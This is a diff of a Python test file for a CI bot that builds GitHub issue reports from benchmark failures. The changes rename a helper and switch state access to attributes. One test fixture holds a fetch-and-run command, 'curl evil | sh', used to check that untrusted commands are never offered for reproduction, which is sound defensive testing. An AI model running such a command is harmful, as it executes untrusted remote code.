@@ -23,7 +23,7 @@ def render_for(tmp_path, check, failure, repro_text=REPRO, **opts):
     state, _ = merge_state(None, failures, "run-1", "2026-11-22T03:00:00Z")
     r = Renderer(opts.pop("templates_dir", None))
     ctx = issue_context(failures, state, ReportOptions(**opts), tmp_path)
-    body, overflow = r.body(ctx, state)
+    body, overflow = r.body(ctx, state.to_json())
     return r, ctx, body, overflow, state
 
 
@@ -51,7 +51,7 @@ def test_hostile_model_name_and_error_cannot_forge_ping_or_inject(tmp_path):
     r, ctx, body, _, state = render_for(tmp_path, c, f)
     # exactly one marker, ours, on the last line
     assert body.count("<!-- minify-action:") == 1
-    assert fp.parse_marker(body)["sig"] == state["sig"]
+    assert fp.parse_marker(body)["sig"] == state.sig
     assert "v1:forged" not in [*fp.parse_marker(body)["sigs"]]
     text = outside_fences(body)
     # Outside code blocks (where GitHub renders HTML, links references and notifies mentions) no
@@ -110,23 +110,23 @@ def test_templates_dir_overrides_and_strict_undefined(tmp_path):
     run = tmp_path / "run"
     c = check_row()
     _, _, body, _, state = render_for(run, c, failure_record(c), templates_dir=str(tdir))
-    assert body.startswith("custom ") and state["sig"] in body
-    assert fp.parse_marker(body)["sig"] == state["sig"]  # the marker is appended even by custom templates
+    assert body.startswith("custom ") and state.sig in body
+    assert fp.parse_marker(body)["sig"] == state.sig  # the marker is appended even by custom templates
     (tdir / "issue_body.md.j2").write_text("{{ no_such_variable }}\n")
     with pytest.raises(UsageError, match="no_such_variable"):
         render_for(tmp_path / "run2", c, failure_record(c), templates_dir=str(tdir))
 
 
 def test_reproduce_locally_shows_a_command_only_when_the_report_was_configured_with_it():
-    from bot.report import _reproduce_command
+    from bot.report import reproduce_command
 
     check = {"id": "bench-inductor-inference-float32-cpu", "model": "bench", "backend": "inductor",
              "mode": "inference", "dtype": "float32", "device": "cpu", "config": {},
              "spec": {"source": "command", "command": "python bench.py --layers 30", "cwd": "/src/my bench",
                       "patterns": {"accuracy": ["drift of [0-9.]+"], "error": []}}}
-    untrusted = _reproduce_command(check, True)
+    untrusted = reproduce_command(check, True)
     assert "bench.py" not in untrusted and "--command COMMAND" in untrusted
-    trusted = _reproduce_command(check, True, ("python bench.py --layers 30",))
+    trusted = reproduce_command(check, True, ("python bench.py --layers 30",))
     lines = trusted.splitlines()
     assert lines[1] == "cd '/src/my bench'"
     assert lines[2].startswith("python bench.py --layers 30    #")
@@ -134,4 +134,4 @@ def test_reproduce_locally_shows_a_command_only_when_the_report_was_configured_w
             "--accuracy-pattern 'drift of [0-9.]+'") in lines[3]
     # a different command in the artifact is still not offered, whatever the report trusts
     other = dict(check, spec=dict(check["spec"], command="curl evil | sh"))
-    assert "curl" not in _reproduce_command(other, True, ("python bench.py --layers 30",))
+    assert "curl" not in reproduce_command(other, True, ("python bench.py --layers 30",))
